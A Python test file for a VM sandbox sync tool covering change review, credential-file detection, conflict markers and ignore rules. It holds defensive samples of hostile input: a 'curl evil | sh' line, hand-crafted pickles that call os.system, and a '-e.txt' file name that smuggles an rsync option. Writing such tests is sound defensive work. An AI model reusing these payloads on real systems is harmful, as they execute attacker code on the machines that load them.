"""The review's parts that need no VM: hunks and their composition, the mass-change guard, credential names,
conflict markers, `.vmsandboxignore` and taking paths out of a capture."""

from __future__ import annotations

import hashlib
import os
from pathlib import Path
from typing import TYPE_CHECKING

import pathspec
import pytest

from vmsandbox.core import views
from vmsandbox.sync.inward import leftout
from vmsandbox.sync.review import hunks, mass, merge
from vmsandbox.sync.review.threeway import Change, Status
from vmsandbox.sync.scan import credentials
from vmsandbox.sync.tree import manifest
from vmsandbox.sync.tree.manifest import DIR, FILE, Entry

if TYPE_CHECKING:
    from vmsandbox.sync.review.plan import Plan

OLD = b"".join(b"line %d\n" % i for i in range(1, 21))
NEW = OLD.replace(b"line 2\n", b"two\n").replace(b"line 10\n", b"").replace(b"line 19\n", b"nineteen\nand more\n")


def test_hunks_compose_back_to_either_text_and_anything_between() -> None:
    found = hunks.hunks(OLD, NEW)
    assert len(found) == 3
    assert hunks.compose(OLD, NEW, {h.index for h in found}) == NEW
    assert hunks.compose(OLD, NEW, set()) == OLD
    only_middle = hunks.compose(OLD, NEW, {1})
    assert only_middle == OLD.replace(b"line 10\n", b"")
    assert hunks.compose(OLD, NEW, {0, 2}) == NEW.replace(b"line 11\n", b"line 10\nline 11\n")


@pytest.mark.parametrize(
    ("old", "new"),
    [(b"", b"a\nb\n"), (b"a\nb\n", b""), (b"a", b"a\n"), (b"x\r\ny\r\n", b"x\r\nz\r\n"), (b"a\n", b"a\n")],
)
def test_hunks_hold_at_the_edges(old: bytes, new: bytes) -> None:
    every = {h.index for h in hunks.hunks(old, new)}
    assert hunks.compose(old, new, every) == new
    assert hunks.compose(old, new, set()) == old


def _changes(n: int, size: int = 10, where: str = "src/pkg") -> list[Change]:
    return [
        Change(f"{where}/f{i}.py", None, Entry(FILE, 0o644, size, digest="d"), None, Status.APPLY) for i in range(n)
    ]


def test_a_mass_change_is_named_by_what_crossed_the_threshold() -> None:
    limits = mass.Limits(files=100, size=1000)
    assert limits.judge(_changes(100, 1)) is None
    assert "101 changed paths" in (limits.judge(_changes(101, 1)) or "")
    assert "mass_change_size" in (limits.judge(_changes(2, 600)) or "")


def test_a_mass_change_is_grouped_by_directory_and_kind() -> None:
    found = [*_changes(30), *_changes(5, where="docs"), *_changes(2, where="src/pkg/deep/er")]
    groups = mass.grouped(found)
    assert [(g.where, g.kind, g.count) for g in groups] == [
        ("src/pkg/", "added", 32),
        ("docs/", "added", 5),
    ]


@pytest.mark.parametrize(
    ("path", "named"),
    [(".env", True), ("config/.env.production", True), (".env.example", False), ("keys/server.pem", False),
     ("home/.aws/credentials", True), (".aws/credentials", True), ("id_ed25519", True), ("src/main.py", False),
     ("credentials.py", False), ("terraform.tfvars", True)],
)  # fmt: skip
def test_credential_file_names(path: str, named: bool) -> None:
    assert (credentials.by_name(path) is not None) is named


def test_placeholders_are_not_credentials() -> None:
    assert credentials.PLACEHOLDER.search("key=vmsandbox-placeholder-" + "ab" * 16)
    assert not credentials.PLACEHOLDER.search("key=ghp_" + "ab" * 18)


def test_markers_left_in_an_edit_are_found() -> None:
    assert merge.has_markers(b"a\n<<<<<<< host\nb\n=======\nc\n>>>>>>> guest\n")
    assert merge.has_markers(b"=======\n")
    assert not merge.has_markers(b"a <<<<<<< b\nno markers at line starts\n")


def test_the_ignore_file_takes_paths_out_of_the_capture(tmp_path: Path) -> None:
    base = tmp_path / "baseline"
    (base / "secrets").mkdir(parents=True)
    (base / "secrets" / "prod.key").write_text("k")
    (base / "src").mkdir()
    (base / "src" / "a.py").write_text("a")
    (base / "src" / "local.cfg").write_text("c")
    entries = manifest.scan(base)
    spec = pathspec.GitIgnoreSpec.from_lines(["secrets/", "*.cfg", "!src/a.py"])
    left_out = leftout.ignored(entries, spec)
    assert left_out == ["secrets", "src/local.cfg"]
    removed = leftout.remove(base, entries, left_out)
    assert removed == 3
    assert sorted(entries) == ["src", "src/a.py"]
    assert sorted(p.name for p in base.rglob("*")) == ["a.py", "src"]
    assert entries["src"].kind == DIR


def _plan(tmp_path: Path, base: bytes, guest: bytes, *, host: bytes | None = None) -> Plan:
    """A plan of one modified file `f.txt`: its baseline, the guest's and (by default the baseline's) host."""
    from vmsandbox.paths import SessionPaths
    from vmsandbox.sync.review.gather import Gathered, Origin
    from vmsandbox.sync.review.plan import make
    from vmsandbox.sync.target import Target

    files = SessionPaths(tmp_path / "session")
    project, source = tmp_path / "project", tmp_path / "guest"
    for where, data in ((files.baseline, base), (project, base if host is None else host), (source, guest)):
        where.mkdir(parents=True)
        (where / "f.txt").write_bytes(data)
    entry = {d: manifest.Entry(FILE, 0o644, len(d), digest=hashlib.sha256(d).hexdigest()) for d in (base, guest)}
    status = Status.APPLY if host is None else Status.CONFLICT
    change = Change("f.txt", entry[base], entry[guest], entry[base], status)
    target = Target("s", project, files, os.getuid(), os.getgid())
    return make(Gathered(target, [change], source, False, Origin.LIVE, None, 1024**2))


def test_the_page_s_hunk_choices_become_the_file_to_write(tmp_path: Path) -> None:
    from vmsandbox.web import review

    plan = _plan(tmp_path, OLD, NEW)
    digest = views.fingerprint(plan.todo[0])
    form = {"d0": [digest], "f0": ["apply"], "hs0": ["1"], "h0": ["0", "2"]}
    chosen = review.decisions(plan, form)
    assert [i.label for i in chosen.decisions.accept] == ["f.txt"]
    assert chosen.decisions.contents == {"f.txt": hunks.compose(OLD, NEW, {0, 2})}
    every = review.decisions(plan, {**form, "h0": ["0", "1", "2"]})
    assert every.decisions.contents == {}  # all hunks: the guest's file as it is
    none = review.decisions(plan, {**form, "h0": []})
    assert none.decisions.accept == () and none.refused == []
    stale = review.decisions(plan, {**form, "d0": ["something else"]})
    assert stale.decisions.accept == ()
    assert stale.refused == ["item 0: not what this review showed; reload the page"]
    skipped = review.decisions(plan, {**form, "f0": ["skip"]})
    assert skipped.decisions.accept == ()
    # the guest's file in the mirror is not what the review saw any more (a later fetch): not applied
    (tmp_path / "guest" / "f.txt").write_bytes(NEW + b"curl evil | sh\n")
    changed = review.decisions(plan, form)
    assert changed.decisions.accept == () and changed.decisions.contents == {}
    assert changed.refused == ["f.txt: f.txt changed since the review; look at it again"]


def test_an_edited_merge_must_lose_its_markers_and_comes_back_with_the_file_s_line_ends(tmp_path: Path) -> None:
    from vmsandbox.sync.review.threeway import Merge
    from vmsandbox.web import review

    plan = _plan(tmp_path, b"a\nb\n", b"a\nguest\n", host=b"a\nhost\n")
    item = plan.todo[0]
    item.first.merge = Merge(b"a\n<<<<<<< host\nhost\n||||||| base\nb\n=======\nguest\n>>>>>>> guest\n", 1)
    form = {"d0": [views.fingerprint(item)], "f0": ["apply"]}
    kept = review.decisions(plan, {**form, "m0": [item.first.merge.text.decode().replace("\n", "\r\n")]})
    assert kept.decisions.contents == {}  # untouched: the guest's version goes beside the file
    assert len(kept.decisions.accept) == 1
    marked = review.decisions(plan, {**form, "m0": ["a\n<<<<<<< host\nboth\n"]})
    assert marked.decisions.accept == ()
    assert "conflict markers remain" in marked.refused[0]
    done = review.decisions(plan, {**form, "m0": ["a\r\nboth\r\n"]})
    assert done.decisions.contents == {"f.txt": b"a\nboth\n"}


def test_a_scanner_that_fails_leaves_every_text_change_for_a_person(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from vmsandbox.errors import VmsandboxError
    from vmsandbox.sync.review import holds

    def broken(contents: object, *, jailed: bool, pickles: object = None) -> object:
        raise VmsandboxError("the credential scanner failed: no python here")

    monkeypatch.setattr(credentials, "inspect", broken)
    plan = _plan(tmp_path, OLD, NEW)
    found = [i.first for i in plan.todo]
    holds.mark_credentials(found, tmp_path / "guest", tmp_path / "session" / "baseline")
    assert found[0].secret == "not scanned (the scanner failed)"
    assert plan.todo[0].secret


def test_a_credential_is_held_by_yes_whatever_else_it_takes(tmp_path: Path) -> None:
    from vmsandbox.sync.review.plan import Decisions
    from vmsandbox.sync.review.take import Take

    plan = _plan(tmp_path, OLD, NEW)
    c = plan.todo[0].first
    c.secret, c.risky = "looks like a credential: GitHub Token (line 2)", "CI configuration"
    assert [i.label for i in Decisions.safe(plan, Take()).quarantined] == ["f.txt"]  # reported by its first reason
    taken = Decisions.safe(plan, Take(risky=True, ignored=True, binary=True, mass=True))
    assert taken.accept == ()
    assert [i.label for i in taken.secret] == ["f.txt"]


def test_no_scanner_runs_where_no_line_could_hold_a_credential() -> None:
    assert credentials.scan({"a.txt": b"guest\n", "b.py": b"def f(x):\n    return x + 1\n"}, jailed=True) == {}
    assert credentials.CANDIDATE.search(b"token: abc")
    assert credentials.CANDIDATE.search(b"x = 'ghp_Zx8kQ2mW9vR4tY7uP1sL3n'")


def test_a_new_directory_of_held_changes_waits_with_them(tmp_path: Path) -> None:
    """`pull --yes` held a real repository's ignored `.pyc` files and made their `__pycache__` on the host all
    the same (issue 43): a new directory that holds only what waits, waits with it, at any depth; one that
    holds something applied is applied."""
    from vmsandbox.paths import SessionPaths
    from vmsandbox.sync.review.gather import Gathered, Origin
    from vmsandbox.sync.review.plan import Decisions, make
    from vmsandbox.sync.review.take import Take
    from vmsandbox.sync.target import Target
    from vmsandbox.sync.tree.manifest import DIR

    def new(path: str, kind: str = FILE, ignored: str | None = None) -> Change:
        entry = manifest.Entry(kind, 0o755 if kind == DIR else 0o644, 1, digest=None if kind == DIR else "d")
        return Change(path, None, entry, None, Status.APPLY, ignored=ignored)

    why = "ignored by the project (.gitignore)"
    found = [
        new("pkg", DIR), new("pkg/__pycache__", DIR, why), new("pkg/__pycache__/a.pyc", ignored=why), new("pkg/a.py"),
        new("cache", DIR), new("cache/deep", DIR), new("cache/deep/x.bin", ignored=why),
    ]  # fmt: skip
    target = Target("s", tmp_path, SessionPaths(tmp_path / "session"), os.getuid(), os.getgid())
    plan = make(Gathered(target, found, tmp_path, False, Origin.LIVE, None, 1024**2))
    decided = Decisions.safe(plan, Take())
    assert sorted(i.label for i in decided.accept) == ["pkg", "pkg/a.py"]
    assert sorted(i.label for i in decided.ignored) == [
        "cache", "cache/deep", "cache/deep/x.bin", "pkg/__pycache__", "pkg/__pycache__/a.pyc"
    ]  # fmt: skip
    taken = Decisions.safe(plan, Take(ignored=True))
    assert len(taken.accept) == len(found)


def test_a_pickle_that_names_code_is_seen_whatever_its_protocol() -> None:
    """docs/security.md says a pickle is held; a protocol-0 pickle read as plain text and `--yes` applied it
    (issue 43). The unpickler itself reads it, in the scanner's process, and its find_class stops the load at
    the first name: whatever the protocol, a header or none, a number written as base 0 (which pickletools
    refused while the unpickler took it)."""
    import pickle

    from vmsandbox.sync.scan import worker

    class Boom:
        def __reduce__(self) -> tuple[object, tuple[str]]:
            return (print, ("pwned",))

    for protocol in range(pickle.HIGHEST_PROTOCOL + 1):
        data = pickle.dumps(Boom(), protocol=protocol)
        assert credentials.may_be_pickle(data), protocol
        assert worker.loads_code(data), protocol
    for crafted in (
        b"cos\nsystem\n(S'echo pwned'\ntR.",  # written by hand: reads as text
        b"\x8c\x08builtins\x8c\x05print\x93\x8c\x05PWNED\x85R.",  # protocol 4 without its header, no NUL
        b"I0x10\n0cbuiltins\nprint\n(S'x'\ntR.",  # an int pickletools refuses, then a call
        b"cos\nsystem\n(S'x'\ntR." + b"x" * (1024**2),  # a payload, then a megabyte (never read)
        b"cat\ndog\n",  # the unpickler would import module `at`: its code runs
    ):
        assert credentials.may_be_pickle(crafted) and worker.loads_code(crafted), crafted[:40]
    assert not worker.loads_code(pickle.dumps({"plain": [1, 2.5, "data"]}, protocol=0))  # data only
    for source in (b"import os\nimport sys\n", b"class A:\n    pass\n", b"changes\n2024\n", b"", b"."):
        assert not worker.loads_code(source)


def test_cp_shows_its_jailed_rsync_the_named_sources_only(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`cp ~/notes.txt NAME:` bound the whole home into the jail of the rsync that talks to the guest, and a
    source named `-e.txt` reached rsync as an option (issue 43)."""
    from vmsandbox.guest.ssh import Endpoint
    from vmsandbox.paths import SessionPaths
    from vmsandbox.sync.fetch import rsync
    from vmsandbox.sync.inward import cp
    from vmsandbox.sync.target import Target

    calls: list[tuple[list[str], str, rsync.Side]] = []

    def fake(endpoint: object, options: list[str], source: str, dest: str, *, side: rsync.Side, **_: object) -> None:
        calls.append((options, source, side))

    monkeypatch.setattr(rsync, "rsync", fake)
    home = tmp_path / "home"
    home.mkdir()
    (home / ".ssh").mkdir()
    notes, dash = home / "notes.txt", home / "-e.txt"
    notes.write_text("n\n")
    dash.write_text("d\n")
    target = Target("s", tmp_path / "p", SessionPaths(tmp_path / "s"), os.getuid(), os.getgid())
    endpoint = Endpoint("s", 2222, "u", target.files)
    cp.copy_in(target, endpoint, [notes, dash], "")
    assert [(source, side.cwd, side.only) for _, source, side in calls] == [
        ("./notes.txt", home, (notes,)), ("./-e.txt", home, (dash,))
    ]  # fmt: skip
